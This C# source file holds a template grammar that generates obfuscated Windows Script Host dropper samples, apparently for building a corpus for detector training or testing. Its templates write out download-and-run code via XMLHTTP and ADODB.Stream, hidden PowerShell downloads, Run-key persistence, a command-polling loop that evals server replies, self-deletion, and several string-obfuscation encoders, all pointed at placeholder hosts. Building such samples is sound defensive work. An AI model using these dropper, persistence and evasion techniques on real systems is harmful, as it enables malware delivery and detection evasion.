namespace Weir.Scripts.Corpus.Rules;

/// <summary>Droppers for Windows Script Host (MITRE ATT&amp;CK T1059.007). They name no host that exists; what they would fetch is nowhere.</summary>
internal static class DropperRules
{
    public const string Text = """"
        §wshDropper
        «dropJunk»var @sh=«wshObject‹WScript.Shell›»;var @x=«wshObject‹MSXML2.XMLHTTP›»;var @st=«wshObject‹ADODB.Stream›»;«dropJunk»var @p=@sh.ExpandEnvironmentStrings(«cut‹%TEMP%›»)+'\\«!letters‹«#4-9»›».«exe¦scr¦dll¦js»';@x.open('GET',«dropUrl»,false);@x.send();«dropJunk»if(@x.Status==200){@st.Open();@st.Type=1;@st.Write(@x.ResponseBody);@st.Position=0;@st.SaveToFile(@p,2);@st.Close();«runIt‹@p›»}
        «dropJunk»function @get(°u,°f){«dropJunk»var °x=«wshObject‹MSXML2.ServerXMLHTTP›»;°x.open('GET',°u,0);°x.send();if(°x.status=='200'){var °s=«wshObject‹ADODB.Stream›»;°s[«cut‹Open›»]();°s[«cut‹Type›»]=1;°s[«cut‹Write›»](°x[«cut‹responseBody›»]);°s[«cut‹SaveToFile›»](°f,2);°s[«cut‹Close›»]();return true;}return false;}var @sh=«wshObject‹WScript.Shell›»,@list=[«dropUrl»,«dropUrl»];for(var @i=0;@i<@list.length;@i++){var @p=@sh.ExpandEnvironmentStrings('%TEMP%')+'/'+Math.round(Math.random()*1e8)+'.exe';try{if(@get(@list[@i],@p)){«runIt‹@p›»break;}}catch(°e){}}
        «dropJunk»var @fso=«wshObject‹Scripting.FileSystemObject›»,@sh=«wshObject‹WScript.Shell›»;var @d=@fso.GetSpecialFolder(2)+'\\'+@fso.GetTempName();var @t=@fso.CreateTextFile(@d+'.«bat¦vbs¦cmd»',true);@t.WriteLine('«!word» «!word»');@t.Close();«dropJunk»«runIt‹@d›»«@fso.DeleteFile(WScript.ScriptFullName);¦»
        «dropJunk»var @sh=new ActiveXObject('WScript.Shell');@sh.«Run¦Exec»('«cmd /c ¦»powershell -w hidden -nop -c "iwr «evil» -OutFile $env:TEMP\\«!letters‹6›».«exe¦ps1»; Start-Process $env:TEMP\\«!letters‹6›».exe"'«,0,false¦»);«dropJunk»
        «dropJunk»var @sh=WScript.CreateObject('WScript.Shell');@sh.RegWrite('HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\«!letters‹8›»','wscript.exe //B "'+WScript.ScriptFullName+'"','REG_SZ');while(true){try{var @x=«wshObject‹Microsoft.XMLHTTP›»;@x.open('POST',«dropUrl»,false);@x.setRequestHeader('User-Agent',«@sh.ExpandEnvironmentStrings('%COMPUTERNAME%')¦'«!id‹9›»'»);@x.send('«!letters‹5›»');var @c=@x.responseText.split('|');switch(@c[0]){case 'exec':eval(@c[1]);break;case 'exit':WScript.Quit();break;}}catch(°e){}WScript.Sleep(«#1000-9000»);}

        §dropUrl
        '«evil»'
        «cut‹«evil»›»
        'ht'+'tp://'+«cut‹«!host»›»+'/«!letters‹«#3-8»›».«exe¦php¦jpg¦dat»'
        [«cut‹http:›»,'',«cut‹«!host»›»,'«!id‹«#3-8»›»'].join('/')

        §cut
        3× «!split‹¹›»
        '¹'
        '«!rev‹¹›»'.split('').reverse().join('')
        String.fromCharCode(«!codes‹¹›»)
        '«!xesc‹¹›»'

        §wshObject
        2× new ActiveXObject(«cut‹¹›»)
        WScript.CreateObject(«cut‹¹›»)
        WScript['Create'+'Object'](«cut‹¹›»)
        new this['Act'+'iveXObj'+'ect'](«cut‹¹›»)
        new (this['ActiveXObject'])('¹')
        this[«cut‹WScript›»][«cut‹CreateObject›»](«cut‹¹›»)

        §runIt
        @sh.Run(¹,0,0);
        @sh.Run('cmd.exe /c start '+¹,0);
        @sh[«cut‹Run›»](¹,1,0);
        @sh.Exec(¹);
        new ActiveXObject(«cut‹Shell.Application›»).ShellExecute(¹,'','','open',0);
        @sh.Run('rundll32 '+¹+',«!letters‹6›»',0,true);

        §dropJunk
        3×
        3× «dropNoise*1-4»
        «dropNoise*4-12»

        §dropNoise
        var °a='«!id‹«#6-40»›»';
        var °a=«#1-9999»+«#1-9999»*«#1-99»;
        function °a(°b){return °b+«#1-99»;}
        for(var °a=0;°a<«#2-90»;°a++){var °b=°a*«#2-99»;}
        if(«#1-99»==«#100-999»){WScript.Echo('«!word»');}
        var °a=new Date();var °b=°a.getTime()%«#2-99»;
        var °a=['«!letters‹5›»','«!letters‹6›»','«!letters‹4›»'];
        function °a(){var °b=«#1-99»;while(°b<«#100-200»){°b+=«#3-30»;}return °b;}
        WScript.Sleep(«#1-900»);
        °a='«!word» «!word» «!word»';
        var °a=function(){return [«#1-99»,'«!letters‹4›»'];};
        try{var °a=«!letters‹7›»;}catch(°b){°a=«#1-99»;}
        /*@cc_on @*/

        ¶ ---- names in pieces that functions and lists give back ----
        §wshPieces
        «dropJunk»var @l=['Scri','WSc','pt.She','ript','ll','XML','HTTP','MS','2.','ADO','DB.S','tream','«!letters‹4›»'];function @p(){var °s='';for(var °i=0;°i<arguments.length;°i++){°s+=@l[arguments[°i]];}return °s;}«dropJunk»var @sh=this[@p(1,3)]['CreateObject'](@p(1,3)+'.Shell');var @x=new ActiveXObject(@p(7,5)+'2.'+@p(5,6));@x.open('G'+'ET',«dropUrl»,false);@x.send();var @st=new ActiveXObject(@p(9,10,11));@st.Type=1;@st.Open();@st.Write(@x.ResponseBody);@st.SaveToFile('«!letters‹5›».exe',2);«runIt‹'«!letters‹5›».exe'›»
        «dropJunk»function @a(){return 'WScr';}function @b(){return 'ipt.Sh';}function @c(){return 'ell';}«dropJunk»function @d(){return 'ADODB.';}function @e(){return 'Stre'+'am';}var @sh=new ActiveXObject(@a()+@b()+@c());«dropJunk»var @st=new ActiveXObject(@d()+@e());var @x=new ActiveXObject(«cut‹MSXML2.XMLHTTP›»);@x.open('GET',«dropUrl»,false);@x.send();@st.open();@st.type=1;@st.write(@x.responseBody);@st.saveToFile(@sh.ExpandEnvironmentStrings('%TEMP%')+'\\«!letters‹6›».«exe¦scr»',2);«runIt‹'«!letters‹6›».exe'›»
        «dropJunk»var @o={};@o.«!letters‹3›»='Shel';@o.«!letters‹4›»='Open';@o.«!letters‹5›»=«cut‹SaveToFile›»;var @k=«cut‹ActiveXObject›»;var @sh=new this[@k]('WScript.'+'Shell'),@x=new this[@k](«cut‹MSXML2.XMLHTTP›»);«dropJunk»@x[«cut‹open›»]('GET',«dropUrl»,0);@x[«cut‹send›»]();var @st=new this[@k](«cut‹ADODB.Stream›»);@st[«cut‹Open›»]();@st[«cut‹Write›»](@x[«cut‹ResponseBody›»]);«runIt‹@x›»

        §wshDecoder
        «dropJunk»var @t='«!shift‹var s=new ActiveXObject('WScript.Shell');s.Run('«evil»');›‹1›»',@o='';for(var @i=0;@i<@t.length;@i++){@o+=String.fromCharCode(@t.charCodeAt(@i)-1);}«dropJunk»eval(@o);
        «dropJunk»var @t='«!rev‹var x=new ActiveXObject('MSXML2.XMLHTTP');x.open('GET','«evil»',false);x.send();›»'.split('').reverse().join('');«dropJunk»this['ev'+'al'](@t);
        «dropJunk»var @c=[«!codes‹var s=WScript.CreateObject("WScript.Shell");s.Run("«evil»");›‹9›»],@o='';for(var @i in @c){@o+=String.fromCharCode(@c[@i]-9);}«dropJunk»new Function(@o)();
        «dropJunk»var @h='«!hexof‹var s=new ActiveXObject("WScript.Shell");s.Run("«evil»",0);›»',@o='';while(@h){@o+=String.fromCharCode(parseInt(@h.substr(0,2),16));@h=@h.substr(2);}«dropJunk»(0,eval)(@o);
        """";
}
